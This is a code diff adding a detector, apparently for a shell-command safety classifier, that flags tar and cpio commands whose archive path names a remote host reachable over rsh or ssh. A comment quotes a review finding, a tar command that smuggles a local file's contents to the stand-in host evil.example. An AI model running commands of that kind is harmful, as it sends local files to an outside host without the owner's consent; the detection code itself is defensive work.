@@ -107,6 +107,28 @@ function archiveFile(args: readonly Word[], oldStyle: boolean): Word | undefined
   return f;
 }
 
+/**
+ * The archive tar or cpio opens on another host (`-f HOST:PATH`, `cpio -F
+ * user@HOST:PATH`): a colon before any slash names a host, reached through
+ * rsh (ssh on most systems), whose remote command carries PATH — unless
+ * --force-local. Review 31: `tar -tf "evil.example:$(cat notes.md)"` was tier 0.
+ */
+export function remoteArchive(name: string, args: readonly Word[]): Word | null {
+  if (args.some((w) => w.text === "--force-local")) return null;
+  let f: Word | undefined;
+  if (name === "tar") {
+    const oldStyle = args[0] !== undefined && /^[a-zA-Z]+$/.test(args[0].text) && /[ctxruA]/.test(args[0].text);
+    f = archiveFile(args, oldStyle);
+  } else if (name === "cpio") {
+    for (let i = 0; i < args.length; i++) {
+      const t = (args[i] as Word).text;
+      const m = /^(?:-[a-zA-Z]*[FIO]|--file)(?:=?(.*))?$/s.exec(t);
+      if (m) f = m[1] ? { ...(args[i] as Word), text: m[1] } : args[i + 1];
+    }
+  }
+  return f !== undefined && /^[^/]*:/.test(f.text) ? f : null;
+}
+
 export function compressorTargets(args: readonly Word[]): Target[] {
   const a = splitArgs(args, new Set(["-S", "--suffix"]));
   if (hasShort(a.flags, /[ctl]/) || a.flags.includes("--stdout") || a.flags.includes("--list") || a.flags.includes("--test")) return [];
